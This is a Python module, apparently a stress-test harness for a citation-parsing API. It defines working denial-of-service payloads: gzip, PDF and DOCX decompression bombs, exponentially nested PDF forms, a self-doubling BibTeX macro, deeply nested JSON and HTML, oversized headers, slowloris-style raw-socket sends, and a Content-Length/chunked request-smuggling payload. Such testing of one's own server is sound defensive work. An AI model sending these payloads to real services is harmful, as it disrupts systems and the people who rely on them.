"""What is sent to harm a server: bodies that become far larger than they are, or cost far more than they should.

Every body is built here, from a few lines; `size` 1 is what broke a server once, or the largest that it takes in, and
smaller ones are for a quick look. What is sent by hand (`RAW`) is no whole request: a function has the connection.
"""

from __future__ import annotations

import gzip
import io
import socket
import time
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field

__all__ = ["ATTACKS", "RAW", "Attack"]

_PARSE = "/api/v1/parse"
_PASTED = "/api/v1/tasks/citations/records"
_WORK = b"Smith AB, Jones CD. Soil salts and the rooting of quince. Acta Hortic. 2004;12(4):33-9. "
_LIST = b"<li>Smith AB. Soil salts. Acta Hortic. 2004;12(4):33-9.</li>"


@dataclass(frozen=True)
class Attack:
    """One request. body : from a size to its bytes; kind : its type."""

    body: Callable[[float], bytes]
    path: str = _PARSE
    kind: str = "application/json"
    headers: Mapping[str, str] = field(default_factory=dict)


def many(before: bytes, unit: bytes, count: int, after: bytes = b"") -> Callable[[float], bytes]:
    """Return what repeats a piece so many times."""
    return lambda size: before + unit * max(1, int(count * size)) + after


def packed(before: bytes, unit: bytes, count: int) -> Callable[[float], bytes]:
    """Return the same as a gzip file, made without holding what is in it."""

    def made(size: float) -> bytes:
        target = io.BytesIO()
        with gzip.GzipFile(fileobj=target, mode="wb", mtime=0) as file:
            file.write(before)
            for _ in range(max(1, int(count * size / 1000))):
                file.write(unit * 1000)
        return target.getvalue()

    return made


def pdf(objects: Sequence[bytes]) -> bytes:
    """Return a PDF of some objects, the first of which is its catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)


def stream(data: bytes, more: bytes = b"", filters: bytes = b"/FlateDecode") -> bytes:
    """Return a stream of packed data."""
    return b"<</Length %d/Filter%s%s>>stream\n%s\nendstream" % (len(data), filters, more, data)


_PAGE = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>"]
_FONT = b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
_WORDS = b"BT /F 10 Tf 50 700 Td (References) Tj 0 -12 Td (Smith AB. Soil salts. Acta Hortic. 2004;12:33-9.) Tj ET "


def page(content: bytes) -> bytes:
    """Return a PDF with one page of this content, a stream."""
    about = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<<%s>>/Contents 4 0 R>>" % _FONT
    return pdf([*_PAGE, about, content])


def calling_forms(size: float) -> bytes:
    """Return a page whose forms call forms, ten each: ten times as many at every step."""
    steps = max(2, int(30 * size))
    about = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<<%s/XObject<</X 5 0 R>>>>/Contents 4 0 R>>"
    forms = []
    for k in range(steps):
        inner = b"/X Do " * 10 if k + 1 < steps else _WORDS
        last = min(6 + k, 4 + steps)
        names = b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<<%s/XObject<</X %d 0 R>>>>" % (_FONT, last)
        forms.append(stream(zlib.compress(inner), names))
    return pdf([*_PAGE, about % _FONT, stream(zlib.compress(b"/X Do ")), *forms])


def packed_page(size: float) -> bytes:
    """Return a page that was packed twice: a few kilobytes become a gigabyte."""
    engine = zlib.compressobj(9)
    once = engine.compress(_WORDS)
    once += b"".join(engine.compress(b" " * (1 << 20)) for _ in range(max(1, int(1000 * size)))) + engine.flush()
    return page(stream(zlib.compress(once, 9), filters=b"[/FlateDecode/FlateDecode]"))


def docx(size: float) -> bytes:
    """Return a DOCX whose text is one paragraph, and again."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    text = b"<w:p><w:r><w:t>Smith AB. Soil salts. 2004;12(4):33-9.</w:t></w:r></w:p>"
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        with file.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(f'<w:document xmlns:w="{space}"><w:body>'.encode())
            for _ in range(max(1, int(400 * size))):
                part.write(text * 1000)
            part.write(b"</w:body></w:document>")
    return target.getvalue()


def doubled(size: float) -> bytes:
    """Return a bibliography whose one macro doubles itself."""
    return b'@string{a = "aaaaaaaaaaaaaaaa"}\n' + b"@string{a = a # a}\n" * int(32 * size) + b"@book{k, title = a}\n"


_HTML = {"kind": "text/html"}
_FORM = {"path": "/api/processCitationList", "kind": "application/x-www-form-urlencoded"}
_PARTS = {"path": "/api/processReferences", "kind": "multipart/form-data; boundary=b"}
_PDF = {"kind": "application/pdf"}

ATTACKS: Mapping[str, Attack] = {
    "JSON: a list of empty lists": Attack(many(b'{"texts":[', b"[],", 16_000_000, b"[]]}")),
    "JSON: a text that is empty objects": Attack(many(b'{"text":[', b"{},", 3_000_000, b"{}]}"), _PASTED),
    "JSON: lists in lists": Attack(many(b"", b"[", 40_000_000)),
    "JSON: objects in objects": Attack(many(b"", b'{"texts":', 5_000_000)),
    "JSON: one key, again": Attack(many(b'{"text":"x"', b',"text":"x"', 800_000, b"}"), _PASTED),
    "JSON: a number without end": Attack(many(b'{"k":', b"1", 9_000_000, b"}")),
    "JSON: NaN": Attack(many(b'{"texts":[', b"NaN,", 12_000_000, b"NaN]}")),
    "JSON: backslashes": Attack(many(b'{"text":"', b"\\\\", 4_900_000, b'"}')),
    "JSON: half characters": Attack(many(b'{"text":"', b"\\ud800", 1_600_000, b'"}')),
    "JSON: short words": Attack(many(b'{"text":"', b"aa ", 3_300_000, b'"}')),
    "JSON: no UTF-8": Attack(many(b'{"text":"', b"\xff\xfe", 4_900_000, b'"}')),
    "JSON: no values": Attack(many(b"", b" ", 49_000_000)),
    "text: short words": Attack(many(b"", b"aa ", 3_300_000), kind="text/plain"),
    "text: short lines": Attack(many(b"", b"a 1999\n", 1_400_000), kind="text/plain"),
    "text: one word": Attack(many(b"", b"a", 9_900_000), kind="text/plain"),
    "text: references in one line": Attack(many(b"", _WORK, 11_000), kind="text/plain"),
    "text: references, a line each": Attack(many(b"", _WORK + b"\n", 100_000), kind="text/plain"),
    "text: words, references in one line": Attack(
        many(b"In words.\n" * 50 + b"References\n", _WORK, 11_000), kind="text/plain"
    ),
    "text: long words": Attack(many(b"", b"a" * 900_000 + b"\n", 11), kind="text/plain"),
    "records: short lines": Attack(
        lambda size: b"".join(b'{"text":"a%d"}\n' % i for i in range(int(2_500_000 * size))),
        "/api/v1/tasks/ads/records/upload?name=x.jsonl", "application/octet-stream",
    ),
    "records: an unfinished list": Attack(
        many(b'[{"data":{"text":"a"}},', b" ", 1),
        "/api/v1/tasks/ads/records/upload?name=x.json&format=label_studio", "application/octet-stream",
    ),
    "gzip: lines": Attack(packed(b"", b"a 1999\n", 11_000_000), kind="application/gzip"),
    "gzip: zeros": Attack(packed(b"", b"\0", 4_000_000_000), kind="application/gzip"),
    "gzip: as an encoding": Attack(packed(b"", b"[", 40_000_000), headers={"Content-Encoding": "gzip"}),
    "form: %41": Attack(many(b"citations=", b"%41", 16_000_000), **_FORM),
    "form: values": Attack(many(b"citations=a", b"&citations=a", 4_000_000), **_FORM),
    "form: parts": Attack(many(b"", b"--b\r\n", 9_900_000), **_PARTS),
    "form: the head of a part": Attack(
        many(b"--b\r\nContent-Disposition: ", b';";', 16_000_000, b"\r\n\r\n--b--"), **_PARTS
    ),
    "form: parts with many parameters": Attack(
        many(b"", b"--b\r\nContent-Disposition: a" + b";" * 3900 + b"\r\n\r\n\r\n", 9_000, b"--b--\r\n"), **_PARTS
    ),
    "form: a token": Attack(many(b"token=", b"%41&", 2_400_000), "/login", "application/x-www-form-urlencoded"),
    "head: a type with quotes": Attack(lambda _: b"{}", kind="a" + ';"' * 15_000),
    "head: a cookie with backslashes": Attack(lambda _: b"{}", headers={"Cookie": 'a="' + "\\\\" * 15_000 + '"'}),
    "head: a list of wishes": Attack(lambda _: b"{}", headers={"Accept": "," * 900_000}),
    "address: a thousand questions": Attack(lambda _: b"{}", _PARSE + "?" + "k=1&" * 12_000),
    "address: a path": Attack(lambda _: b"{}", "/api/v1/tasks" + "/%2e%2e/%00" * 4_000),
    "HTML: `<a `": Attack(many(b"<html><body>", b"<a ", 33_000), **_HTML),
    'HTML: `<a b="`': Attack(many(b"<html><body>", b'<a b="', 16_000), **_HTML),
    "HTML: `<!--`": Attack(many(b"<html><body>", b"<!--", 25_000), **_HTML),
    "HTML: `</`": Attack(many(b"<html><body>", b"</", 50_000), **_HTML),
    "HTML: `<?a`": Attack(many(b"<html><body>", b"<?a", 33_000), **_HTML),
    "HTML: a long list": Attack(many(b"<html><body><h2>References</h2><ol>", _LIST, 200_000), **_HTML),
    "HTML: tags in tags": Attack(many(b"<html><body>", b"<div>", 1_000_000), **_HTML),
    "PDF: forms that call forms": Attack(calling_forms, **_PDF),
    "PDF: a page packed twice": Attack(packed_page, **_PDF),
    "PDF: signs": Attack(
        lambda size: page(stream(zlib.compress(b"BT /F 9 Tf " + b"(a) Tj 1 1 Td " * int(3e6 * size), 9))), **_PDF
    ),
    "DOCX: paragraphs": Attack(docx, kind="application/octet-stream"),
    "BibTeX: macros": Attack(doubled, kind="text/plain"),
}  # fmt: skip
"""Requests by name."""


def _sent(address: tuple[str, int], head: str, body: Callable[[socket.socket], None]) -> str:
    """Send a head and what a function sends; return the first line of the answer."""
    with socket.create_connection(address, timeout=60) as connection:
        host = f"{address[0]}:{address[1]}"
        try:
            connection.sendall(head.format(host=host).encode())
            body(connection)
            answer = connection.recv(200)
        except OSError as error:  # it has hung up, which is an answer
            answer = type(error).__name__.encode()
    return answer.split(b"\r\n")[0].decode("latin-1") or "hung up"


_POST = "POST /api/v1/parse HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"


def slow_body(address: tuple[str, int], size: float) -> str:
    """Send a byte a second."""

    def slowly(connection: socket.socket) -> None:
        for _ in range(max(2, int(40 * size))):
            connection.sendall(b"[")
            time.sleep(1)

    return _sent(address, f"{_POST}Content-Length: 9000000\r\n\r\n", slowly)


def endless_chunks(address: tuple[str, int], size: float) -> str:
    """Send chunks, and no end."""

    def chunks(connection: socket.socket) -> None:
        for _ in range(int(200_000 * size)):
            connection.sendall(b"400\r\n" + b" " * 1024 + b"\r\n")

    return _sent(address, f"{_POST}Transfer-Encoding: chunked\r\n\r\n", chunks)


def endless_extension(address: tuple[str, int], size: float) -> str:
    """Send a chunk whose head has no end."""

    def head(connection: socket.socket) -> None:
        connection.sendall(b"1;a=")
        for _ in range(int(50_000 * size)):
            connection.sendall(b"a" * 4096)

    return _sent(address, f"{_POST}Transfer-Encoding: chunked\r\n\r\n", head)


def many_headers(address: tuple[str, int], size: float) -> str:
    """Send headers, and no end."""

    def headers(connection: socket.socket) -> None:
        for _ in range(int(100_000 * size)):
            connection.sendall(b"a: b\r\n" * 100)

    return _sent(address, _POST, headers)


def upgrade(address: tuple[str, int], size: float) -> str:
    """Ask for another protocol."""
    more = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: YQ==\r\n\r\n"
    head = "GET /api/v1/status HTTP/1.1\r\nHost: {host}\r\n" + more
    return _sent(address, head, lambda _: None)


def two_lengths(address: tuple[str, int], size: float) -> str:
    """Say twice how long the body is, in two ways: what a proxy reads may not be what the server reads."""
    head = f"{_POST}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
    return _sent(address, head, lambda connection: connection.sendall(b"0\r\n\r\nGET /api/v1/tasks HTTP/1.1\r\n"))


RAW: Mapping[str, Callable[[tuple[str, int], float], str]] = {
    "by hand: a byte a second": slow_body,
    "by hand: chunks without end": endless_chunks,
    "by hand: a chunk's head without end": endless_extension,
    "by hand: headers without end": many_headers,
    "by hand: another protocol": upgrade,
    "by hand: two lengths": two_lengths,
}
"""What is sent by hand, by name."""
